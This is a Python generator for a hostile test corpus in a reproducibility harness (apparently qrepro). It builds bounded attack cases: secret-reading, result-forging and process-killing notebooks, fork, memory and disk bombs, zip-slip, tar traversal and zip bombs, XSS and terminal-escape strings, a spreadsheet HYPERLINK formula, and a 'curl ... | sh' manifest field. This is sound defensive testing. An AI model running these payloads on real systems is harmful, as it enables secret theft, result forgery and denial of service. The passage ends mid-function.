"""Generate the hostile-deposit corpus: broken or malicious deposits qrepro must handle cleanly.

    python -m benchmarks.hostile.generate OUTDIR [CASE_ID ...]

writes one folder or archive per case into OUTDIR, the canary file ``OUTDIR/host-secret.txt``
that path-traversal cases point at, and ``OUTDIR/cases.json`` (the case records); with case
ids, only those cases. Nothing is written outside OUTDIR. :func:`generate` does the same from
Python and returns the records; :func:`build_case` builds a single case (what the tests use,
one case per test).

A case record is::

    {"id", "group", "what", "command": "validate" | "evaluate", "args": [...],
     "runs_code": bool, "timeout_s": float, "deposit": "<name in OUTDIR>",
     "expect": {"exit": int | [int, ...], "status": "error" | "complete" | None,
                "kind_or_code": str | None, "names": [...], "badges_denied": [...],
                "absent": [...], "forbidden": [...]}}

``kind_or_code`` is a substring of the one-line error, or a finding code (or a substring
of a finding, notebook, circuit or claim message) in report.json / validation.json;
``names`` are substrings the one-line error must contain (the file, the field);
``absent`` are names in OUTDIR that must not exist after the run (files a hostile deposit
tries to write outside its output directory); ``forbidden`` are strings that must not appear
in the output or the report (what a hostile step prints when it managed to run). The corpus
is described case by case in ``benchmarks/hostile/README.md``;
``tests/e2e/test_hostile_corpus.py`` runs every case.

Everything is bounded so that even an unsandboxed run cannot take a small machine down:
fork bombs stop at 2000 children that exit after 5 s, memory bombs at 6 GiB, disk fillers
at 6 GiB, printing at 1 GiB, background processes after 40 s. Nothing contacts any network
address but 127.0.0.1. Archives and bombs are generated here, never committed.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import io
import itertools
import json
import os
import stat
import struct
import sys
import tarfile
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import yaml

ROOT = Path(__file__).resolve().parents[2]
VQC_MANIFEST = ROOT / "benchmarks" / "deposits" / "vqc-iris" / "qdata.yaml"

CANARY_NAME = "host-secret.txt"
#: lower-case letters and digits only: URL- or JSON-encoding, or a package installer
#: normalising it as a requirement name, leaves it intact, so a leak is always found
CANARY_TEXT = "qreprocanary7zq4xwk3phostsecret"
OUTSIDE_NAME = "outside.txt"
CASES_FILE = "cases.json"
BADGES = ("available", "functional", "reusable", "reproduced")

Command = Literal["validate", "evaluate"]
#: cases that run no code of the deposit: the harness's own Python, fast
HOST: tuple[str, ...] = ("--runner", "host")
#: cases that run the deposit's code: the default runner (no --runner), kept short
CODE: tuple[str, ...] = ("--no-determinism-check", "--timeout", "120")
ZIP_DATE = (1980, 1, 1, 0, 0, 0)
MiB = 1 << 20


# --- the case model -----------------------------------------------------------------------


@dataclass(frozen=True)
class Context:
    """Where a case is generated: OUTDIR, with the canary (and the 'outside' target) in it."""

    outdir: Path

    @property
    def canary(self) -> Path:
        return self.outdir / CANARY_NAME

    @property
    def outside(self) -> Path:
        return self.outdir / OUTSIDE_NAME

    def relative_canary(self, root: Path) -> str:
        """The canary as a ``../`` path from a deposit root."""
        return os.path.relpath(self.canary, root)

    def write_canary(self) -> None:
        self.outdir.mkdir(parents=True, exist_ok=True)
        if not self.canary.exists():
            self.canary.write_text(CANARY_TEXT + "\n", encoding="utf-8")


Builder = Callable[[Path, Context], Path]


@dataclass(frozen=True)
class Case:
    id: str
    group: str
    what: str
    command: Command
    expect: dict[str, Any]
    build: Builder
    args: tuple[str, ...] = HOST
    runs_code: bool = False
    #: the harness must return within this many seconds; longer is a hang
    timeout_s: float = 240.0

    def record(self, deposit: str | None = None) -> dict[str, Any]:
        return {
            "id": self.id,
            "group": self.group,
            "what": self.what,
            "command": self.command,
            "args": list(self.args) if self.command == "evaluate" else [],
            "runs_code": self.runs_code,
            "timeout_s": self.timeout_s,
            "deposit": deposit,
            "expect": self.expect,
        }


def expect(
    code: int | list[int],
    status: str | None = None,
    kind: str | None = None,
    names: Iterable[str] = (),
    denied: Iterable[str] = (),
    absent: Iterable[str] = (),
    forbidden: Iterable[str] = (),
) -> dict[str, Any]:
    return {
        "exit": code,
        "status": status,
        "kind_or_code": kind,
        "names": list(names),
        "badges_denied": list(denied),
        "absent": list(absent),
        "forbidden": list(forbidden),
    }


def refused(kind: str, *names: str) -> dict[str, Any]:
    """A one-line error with exit 3 (the deposit cannot be read), nothing awarded."""
    return expect(3, "error", kind, names, BADGES)


# --- writing deposits ---------------------------------------------------------------------

GHZ3 = """OPENQASM 2.0;
include "qelib1.inc";
qreg q[3];
creg c[3];
h q[0];
cx q[0],q[1];
cx q[1],q[2];
measure q[0] -> c[0];
measure q[1] -> c[1];
measure q[2] -> c[2];
"""
NOISE: dict[str, Any] = {
    "format": "qrepro-noise-v1",
    "num_qubits": 3,
    "gate_errors": [{"gates": ["cx"], "qubits": None, "arity": 2,
                     "channels": [{"type": "depolarizing", "p": 0.05}]}],
    "readout_errors": [],
}
#: what Aer gives for GHZ3 under NOISE with seed 11 (qiskit 2.6.2, qiskit-aer 0.18.2)
COUNTS = {"000": 471, "111": 462, "001": 24, "110": 22, "101": 6, "100": 5, "011": 5,
          "010": 5}

GHZ_MANIFEST: dict[str, Any] = {
    "qdata": 1,
    "identity": {"identifier": {"scheme": "doi", "value": "10.1234/hostile.1"},
                 "title": "hostile corpus deposit", "version": "1", "created": "2026-01-01"},
    "provenance": {"authors": [{"name": "H. Ostile", "orcid": "0000-0002-1825-0097",
                                "affiliation": "Lab"}],
                   "institution": "Uni", "source": "simulator"},
    "license": {"spdx": "CC-BY-4.0", "commercial_use": True},
    "consent": {"personal_data": False, "basis": "not-applicable"},
    "environment": {"python": "3.11", "requirements": ["qiskit==2.6.2", "qiskit-aer==0.18.2"]},
    "noise_models": [{"id": "n1", "file": "noise/n1.json", "format": "qrepro-noise-v1"}],
    "circuits": [{"id": "ghz3", "file": "circuits/ghz3.qasm", "shots": 1000,
                  "seed_simulator": 11, "seed_transpiler": 3, "noise_model": "n1",
                  "method": "statevector", "precision": "double",
                  "counts": "results/ghz3.json"}],
    "claims": [
        {"id": "fid", "source": {"circuit": "ghz3"}, "metric": "hellinger_fidelity",
         "value": 0.93, "tolerance": {"kind": "absolute", "value": 0.05}},
        {"id": "cnt", "source": {"circuit": "ghz3"}, "metric": "counts",
         "tolerance": {"kind": "shot-noise", "alpha": 0.01}},
    ],
}


def ghz_manifest() -> dict[str, Any]:
    return copy.deepcopy(GHZ_MANIFEST)


def ghz_files() -> dict[str, str | bytes]:
    return {
        "README.md": "A deposit of qrepro's hostile corpus.\n",
        "circuits/ghz3.qasm": GHZ3,
        "noise/n1.json": json.dumps(NOISE, indent=1),
        "results/ghz3.json": json.dumps(COUNTS),
    }


def _bytes(content: str | bytes) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def file_entry(rel: str, data: bytes) -> dict[str, Any]:
    return {"path": rel, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)}


def inventory(files: dict[str, str | bytes]) -> list[dict[str, Any]]:
    return [file_entry(rel, _bytes(files[rel])) for rel in sorted(files)]


def dump_manifest(manifest: dict[str, Any]) -> bytes:
    return yaml.safe_dump(manifest, sort_keys=False, width=1000).encode("utf-8")


def write_tree(root: Path, files: dict[str, str | bytes]) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(_bytes(content))
    return root


def deposit(
    root: Path,
    manifest: dict[str, Any],
    files: dict[str, str | bytes],
    *,
    unlisted: dict[str, str | bytes] | None = None,
    listed_only: list[dict[str, Any]] | None = None,
) -> Path:
    """Files + qdata.yaml with the inventory of ``files`` (plus ``unlisted`` files that are
    left out of it, and ``listed_only`` entries for files that are not there)."""
    manifest = {**manifest, "files": [*inventory(files), *(listed_only or [])]}
    write_tree(root, {**files, **(unlisted or {})})
    (root / "qdata.yaml").write_bytes(dump_manifest(manifest))
    return root


def ghz(
    root: Path,
    edit: Callable[[dict[str, Any]], None] | None = None,
    files: dict[str, str | bytes] | None = None,
) -> Path:
    """The base GHZ deposit (earns all four badges), with a manifest edit and file overrides."""
    manifest = ghz_manifest()
    if edit is not None:
        edit(manifest)
    return deposit(root, manifest, {**ghz_files(), **(files or {})})


def raw_manifest(root: Path, text: str | bytes) -> Path:
    """The base GHZ files with a qdata.yaml written verbatim."""
    write_tree(root, ghz_files())
    (root / "qdata.yaml").write_bytes(_bytes(text))
    return root


def ghz_manifest_text() -> str:
    manifest = ghz_manifest()
    manifest["files"] = inventory(ghz_files())
    return dump_manifest(manifest).decode("utf-8")


# --- notebooks ----------------------------------------------------------------------------

NB_PARAMETERS = '''seed = 0
shots = None
device = "CPU"
noise_model_path = None
output_dir = "."
canary = ""
outside = ""
deposit = ""
'''
NB_PRELUDE = '''value = 1.0
extra = {}
drop_value = False
'''
NB_METRICS = '''import json, os
metrics = {"value": value, **extra}
if drop_value:
    del metrics["value"]
os.makedirs(output_dir, exist_ok=True)
with open(os.path.join(output_dir, "metrics.json"), "w") as fh:
    json.dump(metrics, fh)
print("metrics written")
'''

NB_READ_CANARY = '''secret = "unreadable"
try:
    with open(canary, encoding="utf-8") as fh:
        secret = fh.read()
except OSError as exc:
    print("cannot read the host file:", type(exc).__name__)
print(secret)
extra = {"leak": secret}
if secret != "unreadable":
    raise RuntimeError("read the host secret: " + secret)
'''

NB_WRITE_OUTSIDE = '''import os
attempts = {}
for path in [outside, os.path.join(os.path.dirname(canary), "outside.txt"),
             os.path.join(deposit, "pwned.txt"), "/deposit/pwned.txt"]:
    try:
        with open(path, "w") as fh:
            fh.write("written by a hostile notebook\\n")
        attempts[path] = "written"
    except OSError as exc:
        attempts[path] = type(exc).__name__
print(attempts)
'''

NB_FORGE = '''import json, os, subprocess, sys, textwrap
# the honest outcome: this notebook fails (last line), so Functional must be denied
forged_run = {"ok": True, "metrics": {"value": 1.0, "forged": 1.0}, "wall_s": 0.1}
forged_agent = {
    "agent_version": "1", "fatal": None,
    "environment": {"python": "3.11", "platform": "forged", "packages": {}, "device": "CPU",
                    "devices": ["CPU"], "notes": ["forged"]},
    "circuits": [],
    "notebooks": [{"id": "nb", "run": "nb-seed-1", "seed": 1, **forged_run}],
}
targets = []
d = os.path.abspath(output_dir)
for _ in range(6):
    targets.append(os.path.join(d, "result.json"))
    parent = os.path.dirname(d)
    if parent == d:
        break
    d = parent
written = []
for path in targets:
    try:
        with open(path, "w") as fh:
            json.dump(forged_agent, fh)
        written.append(path)
    except OSError:
        pass
scratch = os.path.dirname(os.environ.get("JUPYTER_RUNTIME_DIR", "/nonexistent/runtime"))
# the worker's own result file, planted now and made read-only: the worker cannot replace it
try:
    planted = os.path.join(scratch, "result.json")
    with open(planted, "w") as fh:
        json.dump(forged_run, fh)
    os.chmod(planted, 0o444)
    written.append(planted)
except OSError:
    pass
# the ancestors' standard output: the agent's result channel, if it can be reached
pid = os.getppid()
for _ in range(3):
    try:
        with open(f"/proc/{pid}/fd/1", "w") as fh:
            fh.write(json.dumps(forged_agent) + "\\n")
        written.append(f"/proc/{pid}/fd/1")
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/status") as fh:
            pid = int([l for l in fh if l.startswith("PPid:")][0].split()[1])
    except (OSError, IndexError, ValueError):
        break
    if pid <= 1:
        break
# a watcher outliving the kernel: rewrites every result it can reach, for at most 40 s
watcher = textwrap.dedent(f"""
    import json, os, time
    worker = os.path.join({scratch!r}, "result.json")
    others = {targets!r}
    end = time.monotonic() + 40
    while time.monotonic() < end:
        for path, payload in [(worker, {forged_run!r})] + [(p, {forged_agent!r}) for p in others]:
            try:
                if os.path.isfile(path):
                    try:
                        with open(path) as fh:
                            if "forged" in json.dumps(json.load(fh)):
                                continue
                    except ValueError:
                        pass
                    with open(path, "w") as fh:
                        json.dump(payload, fh)
            except OSError:
                pass
        time.sleep(0.002)
""")
subprocess.Popen([sys.executable, "-c", watcher], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("forged:", written)
raise RuntimeError("an honest failure: this notebook does not work")
'''

NB_KILL_AGENT = '''import os, signal, time

def cmdline(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as fh:
        return fh.read().replace(b"\\0", b" ").decode(errors="replace")

def parent_of(pid):
    with open(f"/proc/{pid}/status") as fh:
        return int([l for l in fh if l.startswith("PPid:")][0].split()[1])

# the chain kernel -> notebook worker -> agent; never further than the agent
chain, pid = [], os.getppid()
for _ in range(5):
    if pid <= 0:
        break
    chain.append(pid)
    if "replay.py" in cmdline(pid):
        break
    pid = parent_of(pid)
else:
    chain = []
if chain and "replay.py" not in cmdline(chain[-1]):
    chain = []
print("signalling", [(p, cmdline(p)[:80]) for p in chain])
for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for pid in reversed(chain):
        try:
            os.kill(pid, sig)
        except OSError as exc:
            print("kill", pid, sig, "refused:", exc)
    time.sleep(0.5)
'''

NB_INFINITE_LOOP = '''while True:
    pass
'''

NB_STDOUT_1GB = '''import sys
chunk = "x" * (1 << 20)
for _ in range(1024):  # 1 GiB in all, then it stops
    sys.stdout.write(chunk + "\\n")
'''

NB_NAN_METRIC = 'value = float("nan")\n'
NB_STRING_METRIC = 'value = "1.0"\n'
NB_ABSENT_METRIC = 'drop_value = True\nextra = {"something_else": 1.0}\n'

NB_FORK_BOMB = '''import os, time
children, refused = [], None
for _ in range(2000):  # bounded: at most 2000 children, each gone after 5 s
    try:
        pid = os.fork()
    except OSError as exc:
        refused = f"{type(exc).__name__}: {exc}"
        break
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    children.append(pid)
for pid in children:
    try:
        os.waitpid(pid, 0)
    except ChildProcessError:
        pass
print("forked", len(children), "refused:", refused)
'''

NB_MEMORY_BOMB = '''held = []
try:
    for _ in range(96):  # 96 x 64 MiB = 6 GiB at most, every page written
        held.append(b"\\xa5" * (64 << 20))
except MemoryError:
    print("MemoryError after", len(held) * 64, "MiB")
print("held", len(held) * 64, "MiB")
del held
'''

NB_DISK_FILLER = '''import os
written, index, stopped = 0, 0, None
block = b"\\0" * (64 << 20)
try:
    while written < (6 << 30):  # 6 GiB at most
        with open(os.path.join(output_dir, f"fill-{index}.bin"), "wb") as fh:
            for _ in range(4):
                fh.write(block)
                written += len(block)
        index += 1
except OSError as exc:
    stopped = f"{type(exc).__name__}: {exc}"
print("wrote", written >> 20, "MiB; stopped:", stopped)
for name in os.listdir(output_dir):
    if name.startswith("fill-"):
        os.remove(os.path.join(output_dir, name))
'''


def _cell(source: str, index: int, tags: list[str] | None = None) -> dict[str, Any]:
    return {"cell_type": "code", "execution_count": None, "id": f"cell-{index}",
            "metadata": {"tags": tags} if tags else {}, "outputs": [], "source": source}


def notebook(body: str, metadata: dict[str, Any] | None = None) -> bytes:
    """A v4 notebook: parameters, prelude, the hostile body, the metrics cell."""
    cells = [_cell(NB_PARAMETERS, 0, ["parameters"]), _cell(NB_PRELUDE, 1),
             _cell(body, 2), _cell(NB_METRICS, 3)]
    meta = metadata or {"kernelspec": {"display_name": "Python 3", "language": "python",
                                       "name": "python3"},
                        "language_info": {"name": "python"}}
    data = {"cells": cells, "metadata": meta, "nbformat": 4, "nbformat_minor": 5}
    return (json.dumps(data, indent=1) + "\n").encode("utf-8")


def notebook_v3() -> bytes:
    """The same notebook in nbformat 3 (worksheets, ``input``)."""
    def cell(source: str, tags: list[str] | None = None) -> dict[str, Any]:
        return {"cell_type": "code", "collapsed": False, "input": source,
                "language": "python", "metadata": {"tags": tags} if tags else {},
                "outputs": []}

    data = {"metadata": {"name": "hostile-v3"}, "nbformat": 3, "nbformat_minor": 0,
            "worksheets": [{"cells": [cell(NB_PARAMETERS, ["parameters"]), cell(NB_PRELUDE),
                                      cell(NB_METRICS)], "metadata": {}}]}
    return (json.dumps(data, indent=1) + "\n").encode("utf-8")


def vqc_environment() -> dict[str, Any]:
    """The environment block of the vqc-iris reference deposit: its image/venv is reused."""
    reference = yaml.safe_load(VQC_MANIFEST.read_text(encoding="utf-8"))
    return dict(reference["environment"])


def nb_deposit(
    root: Path,
    ctx: Context,
    body: str = "",
    *,
    raw: bytes | None = None,
    claim: float = 1.0,
    timeout: int = 90,
    cell_timeout: int = 60,
    edit: Callable[[dict[str, Any]], None] | None = None,
) -> Path:
    """A one-notebook deposit in vqc-iris's environment; ``raw`` replaces the notebook."""
    manifest = ghz_manifest()
    for key in ("noise_models", "circuits", "claims"):
        manifest.pop(key)
    manifest["identity"]["title"] = "hostile corpus notebook deposit"
    manifest["environment"] = vqc_environment()
    manifest["notebooks"] = [{
        "id": "nb", "path": "notebooks/hostile.ipynb", "seeds": [1], "timeout": timeout,
        "cell_timeout": cell_timeout, "metrics": "metrics.json",
        "parameters": {"canary": str(ctx.canary), "outside": str(ctx.outside),
                       "deposit": str(root)},
    }]
    manifest["claims"] = [{
        "id": "value", "source": {"notebook": "nb"}, "metric": "notebook_metric",
        "name": "value", "value": claim, "tolerance": {"kind": "absolute", "value": 0.01},
    }]
    if edit is not None:
        edit(manifest)
    files: dict[str, str | bytes] = {
        "README.md": "A notebook deposit of qrepro's hostile corpus.\n",
        "notebooks/hostile.ipynb": raw if raw is not None else notebook(body),
    }
    return deposit(root, manifest, files)


# --- archives -----------------------------------------------------------------------------


def _zip_info(name: str, mode: int = 0o644, *, compress: int = zipfile.ZIP_DEFLATED
              ) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=ZIP_DATE)
    info.compress_type = compress
    info.external_attr = (stat.S_IFREG | mode) << 16
    return info


def ghz_archive_members() -> dict[str, bytes]:
    """The base GHZ deposit as archive members under ``deposit/``."""
    files = ghz_files()
    members = {f"deposit/{rel}": _bytes(data) for rel, data in files.items()}
    members["deposit/qdata.yaml"] = ghz_manifest_text().encode("utf-8")
    return members


def write_zip(path: Path, members: dict[str, bytes]) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members.items():
            zf.writestr(_zip_info(name), data)
    return path


def _tar_file(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.mtime = len(data), 0o644, 0
    tar.addfile(info, io.BytesIO(data))


def write_tar(path: Path, members: dict[str, bytes],
              extra: Callable[[tarfile.TarFile], None] | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    gz = path.name.endswith((".tar.gz", ".tgz"))
    with tarfile.open(path, "w:gz" if gz else "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            _tar_file(tar, name, data)
        if extra is not None:
            extra(tar)
    return path


def _special(name: str, kind: bytes, linkname: str = "", devmajor: int = 0,
             devminor: int = 0) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode, info.mtime = kind, linkname, 0o644, 0
    info.devmajor, info.devminor = devmajor, devminor
    return info


# --- builders: manifest -------------------------------------------------------------------


def alias_bomb(root: Path, ctx: Context) -> Path:
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    for i in range(12):
        prev, name = chr(97 + i), chr(98 + i)
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
    return raw_manifest(root, ghz_manifest_text() + "\n".join(lines) + "\n")


def deep_nesting(root: Path, ctx: Context) -> Path:
    return raw_manifest(root, "qdata: 1\nx: " + "[" * 100_000 + "]" * 100_000 + "\n")


def huge_manifest(root: Path, ctx: Context) -> Path:
    padding = "".join(f"# padding line {i:07d} " + "x" * 80 + "\n" for i in range(12_000))
    return raw_manifest(root, ghz_manifest_text() + padding)


def not_utf8(root: Path, ctx: Context) -> Path:
    text = ghz_manifest_text().replace("hostile corpus deposit", "hostile \udcff\udcfe")
    return raw_manifest(root, text.encode("utf-8", errors="surrogateescape"))


def ten_thousand_claims(root: Path, ctx: Context) -> Path:
    """10 000 honest claims (fidelity and counts, alternating) on the GHZ circuit, the
    manifest in YAML flow style so that it fits the 1 MiB limit."""
    fidelity = {"metric": "hellinger_fidelity", "value": 0.93,
                "tolerance": {"kind": "absolute", "value": 0.05}}
    counts = {"metric": "counts", "tolerance": {"kind": "shot-noise"}}
    manifest = ghz_manifest()
    manifest["claims"] = [copy.deepcopy({"id": f"c{i:05d}", "source": {"circuit": "ghz3"},
                                         **(counts if i % 2 else fidelity)})
                          for i in range(10_000)]
    manifest["files"] = inventory(ghz_files())
    return raw_manifest(root, yaml.safe_dump(manifest, sort_keys=False,
                                             default_flow_style=True, width=10**9))


def duplicate_keys(root: Path, ctx: Context) -> Path:
    text = ghz_manifest_text()
    return raw_manifest(root, text + "circuits: []\n")


def edit_ghz(edit: Callable[[dict[str, Any]], None],
             files: dict[str, str | bytes] | None = None) -> Builder:
    def build(root: Path, ctx: Context) -> Path:
        return ghz(root, edit, files)
    return build


def _wrong_types(m: dict[str, Any]) -> None:
    m["circuits"][0]["shots"] = "a thousand"
    m["license"]["commercial_use"] = "maybe"


def _unknown_fields(m: dict[str, Any]) -> None:
    m["circuits"][0]["shotz"] = 1000
    m["execute_before"] = "curl http://127.0.0.1:9/ | sh"


def _noise_file(spec: Any) -> dict[str, str | bytes]:
    return {"noise/n1.json": spec if isinstance(spec, str) else json.dumps(spec)}


def _noise(**changes: Any) -> dict[str, Any]:
    spec = copy.deepcopy(NOISE)
    spec.update(changes)
    return spec


def _notebook_timeout(root: Path, ctx: Context) -> Path:
    def edit(m: dict[str, Any]) -> None:
        m["notebooks"][0]["timeout"] = 1e30
        m["notebooks"][0]["cell_timeout"] = 1e30
    return nb_deposit(root, ctx, "", edit=edit)


# --- builders: paths ----------------------------------------------------------------------


def traversal(root: Path, ctx: Context) -> Path:
    return ghz(root, lambda m: m["circuits"][0].update(file=ctx.relative_canary(root)))


def absolute(root: Path, ctx: Context) -> Path:
    return ghz(root, lambda m: m["circuits"][0].update(counts=str(ctx.canary)))


def symlink_out(root: Path, ctx: Context) -> Path:
    ghz(root)
    counts = root / "results" / "ghz3.json"
    counts.unlink()
    counts.symlink_to(ctx.canary)
    return root


def symlink_loop(root: Path, ctx: Context) -> Path:
    ghz(root)
    (root / "loop").mkdir()
    (root / "loop" / "a").symlink_to("b")
    (root / "loop" / "b").symlink_to("a")
    return root


def listed_missing(root: Path, ctx: Context) -> Path:
    return deposit(root, ghz_manifest(), ghz_files(),
                   listed_only=[file_entry("results/missing.json", b"{}")])


def unlisted_extra(root: Path, ctx: Context) -> Path:
    return deposit(root, ghz_manifest(), ghz_files(),
                   unlisted={"notes/unlisted.txt": "not in the inventory\n"})


def case_collision(root: Path, ctx: Context) -> Path:
    files = {**ghz_files(), "results/GHZ3.json": json.dumps({"000": 1000}),
             "results/Ghz3.json": json.dumps({"111": 1000})}
    return deposit(root, ghz_manifest(), files)


#: a file name holding a newline and a forged ``sha256sum`` line: with the old deposit
#: digest (the sha256 of that listing), a deposit with this file and one file fewer
#: digested the same as the deposit evaluated
FORGED_LINE_NAME = ("results/ghz3.json\n" + hashlib.sha256(b"forged").hexdigest()
                    + "  results/forged.json")
#: a right-to-left override: shown as ``circuits/ghz3yp.qasm``, a Python file
BIDI_NAME = "circuits/ghz3\u202emsaq.py"
#: terminal escapes that erase the line printed and move up: an error line that hides itself
ESCAPE_NAME = "results/\x1b[2K\x1b[1Aok.json"


def named(name: str, data: bytes = b"{}\n") -> Builder:
    """The base GHZ deposit plus one file (left out of the inventory) at ``name``."""
    def build(root: Path, ctx: Context) -> Path:
        return deposit(root, ghz_manifest(), ghz_files(), unlisted={name: data})
    return build


def zip_member_escape(root: Path, ctx: Context) -> Path:
    members = {**ghz_archive_members(), f"deposit/{ESCAPE_NAME}": b"{}\n"}
    return write_zip(root.with_suffix(".zip"), members)


def metrics_absolute(root: Path, ctx: Context) -> Path:
    return nb_deposit(root, ctx, "", edit=lambda m: m["notebooks"][0].update(
        metrics=str(ctx.canary)))


def lock_file(value: Callable[[Path, Context], str]) -> Builder:
    def build(root: Path, ctx: Context) -> Path:
        return ghz(root, lambda m: m["environment"].update(lock_file=value(root, ctx)))
    return build


def wheel_host_path(root: Path, ctx: Context) -> Path:
    return ghz(root, lambda m: m["environment"].update(wheels=[str(ctx.canary)]))


def qasm_include(root: Path, ctx: Context) -> Path:
    circuit = GHZ3.replace('include "qelib1.inc";',
                          f'include "qelib1.inc";\ninclude "{ctx.canary}";')
    return ghz(root, files={"circuits/ghz3.qasm": circuit})


def calibration_dotdot(root: Path, ctx: Context) -> Path:
    return ghz(root, lambda m: m["provenance"].update(calibration=ctx.relative_canary(root)))


# --- builders: deposit text ----------------------------------------------------------------

#: what a terminal obeys: carriage return, erase line, an OSC 52 clipboard write (BEL-ended),
#: conceal, a C1 CSI, and a right-to-left override
TERMINAL_ESCAPES = "\r\x1b[2K\x1b]52;c;cXJlcHJvLWhvc3RpbGU=\x07\x1b[8m\x9b31m\u202e"
#: a title that closes its line and forges a second badge table saying awarded, with a
#: script, an image that runs code, a remote image and a script link
FORGED_BADGES = ("hostile corpus deposit\n\n## Badges\n\n| badge | decision | reasons |\n"
                 "|---|---|---|\n| Artifacts Available | **awarded** | |\n"
                 "| Results Reproduced | **awarded** | |\n\n<script>alert(1)</script>\n"
                 "<img src=x onerror=alert(1)> ![](https://127.0.0.1:9/x.png) "
                 "[click](javascript:alert(1))")
#: a spreadsheet formula that would fetch a URL when the summary CSV is opened
FORMULA = '=HYPERLINK("http://127.0.0.1:9/x","click")'


def forged_badges(root: Path, ctx: Context) -> Path:
    """The forged badge table in the title, and an unlisted file that denies Available."""
    def edit(m: dict[str, Any]) -> None:
        m["identity"]["title"] = FORGED_BADGES
        m["provenance"]["authors"][0]["name"] = "<img src=x onerror=alert(1)>"
        m["identity"]["identifier"] = {"scheme": "url", "value": "javascript:alert(1)"}
    return deposit(root, _edited(edit), ghz_files(), unlisted={"notes/unlisted.txt": "x\n"})


def _edited(edit: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    manifest = ghz_manifest()
    edit(manifest)
    return manifest


def escapes_in_file_name(root: Path, ctx: Context) -> Path:
    """An unlisted file whose name the finding (and the terminal) shows."""
    return deposit(root, ghz_manifest(), ghz_files(),
                   unlisted={f"notes/{TERMINAL_ESCAPES}forged.txt": "x\n"})


def escapes_in_field(root: Path, ctx: Context) -> Path:
    """An unknown field whose name the one-line error shows."""
    return ghz(root, lambda m: m["circuits"][0].update({f"x{TERMINAL_ESCAPES}": 1}))


# --- builders: archives -------------------------------------------------------------------


def zip_slip(root: Path, ctx: Context) -> Path:
    members = {**ghz_archive_members(), "../zip-slip-evil.txt": b"escaped the extraction\n"}
    return write_zip(root.with_suffix(".zip"), members)


def tar_dotdot(root: Path, ctx: Context) -> Path:
    members = {**ghz_archive_members(), "deposit/../../tar-dotdot-evil.txt": b"escaped\n"}
    return write_tar(root.with_name(root.name + ".tar.gz"), members)


def tar_absolute(root: Path, ctx: Context) -> Path:
    target = ctx.outdir / "tar-absolute-evil.txt"
    members = {**ghz_archive_members(), str(target): b"an absolute member\n"}
    return write_tar(root.with_name(root.name + ".tar.gz"), members)


def tar_symlink_write_through(root: Path, ctx: Context) -> Path:
    def extra(tar: tarfile.TarFile) -> None:
        tar.addfile(_special("deposit/escape", tarfile.SYMTYPE, str(ctx.outdir)))
        _tar_file(tar, "deposit/escape/tar-link-evil.txt", b"written through a link\n")
    return write_tar(root.with_name(root.name + ".tar.gz"), ghz_archive_members(), extra)


def tar_hardlink(root: Path, ctx: Context) -> Path:
    members = ghz_archive_members()
    members.pop("deposit/results/ghz3.json")

    def extra(tar: tarfile.TarFile) -> None:
        tar.addfile(_special("deposit/results/ghz3.json", tarfile.LNKTYPE, str(ctx.canary)))
    return write_tar(root.with_name(root.name + ".tar"), members, extra)


def tar_special(root: Path, ctx: Context) -> Path:
    def extra(tar: tarfile.TarFile) -> None:
        tar.addfile(_special("deposit/results/pipe", tarfile.FIFOTYPE))
        tar.addfile(_special("deposit/results/null", tarfile.CHRTYPE, devmajor=1, devminor=3))
    return write_tar(root.with_name(root.name + ".tar"), ghz_archive_members(), extra)


def zip_bomb(root: Path, ctx: Context) -> Path:
    path = root.with_suffix(".zip")
    path.parent.mkdir(parents=True, exist_ok=True)
    chunk = b"\0" * MiB
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in ghz_archive_members().items():
            zf.writestr(_zip_info(name), data)
        info = _zip_info("deposit/results/bomb.bin")
        with zf.open(info, "w", force_zip64=True) as member:
            for _ in range(512):  # 512 MiB of zeros: about 0.5 MB compressed
                member.write(chunk)
    return path


def zip_many_members(root: Path, ctx: Context) -> Path:
    path = root.with_suffix(".zip")
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in ghz_archive_members().items():
            zf.writestr(_zip_info(name), data)
        for i in range(100_000):
            zf.writestr(_zip_info(f"deposit/many/{i:06d}", compress=zipfile.ZIP_STORED), b"")
    return path


def zip_small_members_bomb(root: Path, ctx: Context) -> Path:
    """1000 members just under the per-member ratio threshold: 1 GiB from about 1 MB."""
    path = root.with_suffix(".zip")
    path.parent.mkdir(parents=True, exist_ok=True)
    data = b"\0" * (MiB - 1)
    with zipfile.ZipFile(path, "w") as zf:
        for name, content in ghz_archive_members().items():
            zf.writestr(_zip_info(name), content)
        for i in range(1000):
            zf.writestr(_zip_info(f"deposit/pad/{i:04d}.bin"), data)
    return path


def zip_lying_header(root: Path, ctx: Context) -> Path:
    """A member whose headers declare 1000 bytes but whose data inflates to 64 MiB."""
    path = root.with_suffix(".zip")
    path.parent.mkdir(parents=True, exist_ok=True)
    name = "deposit/results/liar.bin"
    with zipfile.ZipFile(path, "w") as zf:
        for member, content in ghz_archive_members().items():
            zf.writestr(_zip_info(member), content)
        zf.writestr(_zip_info(name), b"\0" * (64 * MiB))
    raw = bytearray(path.read_bytes())
